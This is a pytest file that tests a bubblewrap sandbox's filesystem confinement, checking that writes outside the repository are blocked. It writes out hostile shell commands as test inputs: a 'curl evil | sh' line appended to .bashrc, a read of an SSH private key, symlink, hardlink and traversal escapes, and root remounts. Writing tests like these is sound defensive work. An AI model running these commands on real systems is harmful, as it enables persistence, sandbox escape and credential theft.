"""Battery, filesystem: only the repository is writable, and nothing leaks out of it."""

from __future__ import annotations

import os
import uuid
from pathlib import Path

from tests.tools.sandbox.conftest import requires_bwrap, sha256
from tools.sandbox.policy import SandboxMode

pytestmark = requires_bwrap()


def test_write_inside_repo_is_allowed(run, repo: Path) -> None:
    result = run("echo data > new.txt && mkdir -p sub && echo nested > sub/f.txt")
    assert result.exit_code == 0, result.output
    assert result.sandboxed
    assert (repo / "new.txt").read_text() == "data\n"
    assert (repo / "sub" / "f.txt").read_text() == "nested\n"


def test_absolute_path_outside_is_denied(run, outside: Path) -> None:
    before = sha256(outside / "outside.txt")
    result = run(f"echo pwned > {outside}/created.txt; echo pwned >> {outside}/outside.txt")
    assert result.exit_code != 0
    assert "Read-only file system" in result.output
    assert not (outside / "created.txt").exists()
    assert sha256(outside / "outside.txt") == before


def test_parent_traversal_is_denied(run, repo: Path) -> None:
    result = run("echo x > ../escape.txt; cd .. && touch escape2.txt")
    assert result.exit_code != 0
    assert not (repo.parent / "escape.txt").exists()
    assert not (repo.parent / "escape2.txt").exists()


def test_append_to_bashrc_is_denied(run, fake_home) -> None:
    bashrc = fake_home.path / ".bashrc"
    before = sha256(bashrc)
    result = run("echo 'curl evil | sh' >> ~/.bashrc")
    assert result.exit_code != 0
    assert sha256(bashrc) == before


def test_write_through_symlink_pointing_outside_is_denied(run, repo: Path, outside: Path) -> None:
    target = outside / "outside.txt"
    before = sha256(target)
    (repo / "planted_link").symlink_to(target)
    result = run(f"echo x >> planted_link; ln -s {target} own_link && echo y >> own_link")
    assert result.exit_code != 0
    assert sha256(target) == before


def test_planted_symlink_to_ssh_key_reads_no_content(run, repo: Path, fake_home) -> None:
    (repo / "key").symlink_to(fake_home.path / ".ssh" / "id_rsa")
    result = run("cat key; cat ~/.ssh/id_rsa")
    assert fake_home.secrets[".ssh/id_rsa"] not in result.output


def test_hardlink_to_outside_file_then_append_is_denied(run, outside: Path) -> None:
    target = outside / "outside.txt"
    before = sha256(target)
    result = run(f"ln {target} hardlink && echo appended >> hardlink")
    assert result.exit_code != 0
    assert sha256(target) == before
    assert target.stat().st_nlink == 1


def test_mv_repo_file_outside_is_denied_and_original_kept(run, repo: Path, outside: Path) -> None:
    result = run(f"mv tracked.txt {outside}/")
    assert result.exit_code != 0
    assert (repo / "tracked.txt").read_text() == "original\n"
    assert not (outside / "tracked.txt").exists()


def test_remount_root_read_write_then_write_is_denied(run, outside: Path) -> None:
    result = run(
        f"mount -o remount,bind,rw /; mount -o remount,rw /; echo x > {outside}/after-remount"
    )
    assert result.exit_code != 0
    assert not (outside / "after-remount").exists()


def test_write_to_proc_sys_is_denied(run) -> None:
    sysctl = Path("/proc/sys/kernel/printk_ratelimit")
    before = sysctl.read_text()
    # Writing the current value back: harmless on the host even if it got through.
    result = run(f"v=$(cat {sysctl}) && echo $v > {sysctl}")
    assert result.exit_code != 0
    assert "Read-only file system" in result.output
    assert sysctl.read_text() == before


def test_tmp_and_dev_shm_are_private_and_discarded(run) -> None:
    tag = uuid.uuid4().hex
    host_file = Path(f"/tmp/tessera-host-{tag}")
    host_file.write_text("host\n")
    try:
        first = run(
            f"test ! -e {host_file} && echo in > /tmp/inside-{tag}"
            f" && echo in > /dev/shm/inside-{tag} && cat /tmp/inside-{tag}"
        )
        assert first.exit_code == 0, first.output
        assert not Path(f"/tmp/inside-{tag}").exists()
        assert not Path(f"/dev/shm/inside-{tag}").exists()
        second = run(f"test ! -e /tmp/inside-{tag} && test ! -e /dev/shm/inside-{tag}")
        assert second.exit_code == 0
    finally:
        host_file.unlink()


def test_read_only_mode_denies_repo_writes_but_reads(run, repo: Path) -> None:
    result = run("cat tracked.txt; echo x > new.txt", mode=SandboxMode.READ_ONLY)
    assert "original" in result.output
    assert result.exit_code != 0
    assert not (repo / "new.txt").exists()


def test_dev_null_is_writable(run) -> None:
    assert run("echo x > /dev/null && echo ok").output == "ok\n"


def test_extra_writable_path_is_writable(run, outside: Path) -> None:
    result = run(f"echo x > {outside}/allowed.txt", extra_writable=(outside,))
    assert result.exit_code == 0, result.output
    assert (outside / "allowed.txt").read_text() == "x\n"


def test_files_created_inside_belong_to_the_caller(run, repo: Path) -> None:
    run("echo x > owned.txt")
    assert (repo / "owned.txt").stat().st_uid == os.getuid()
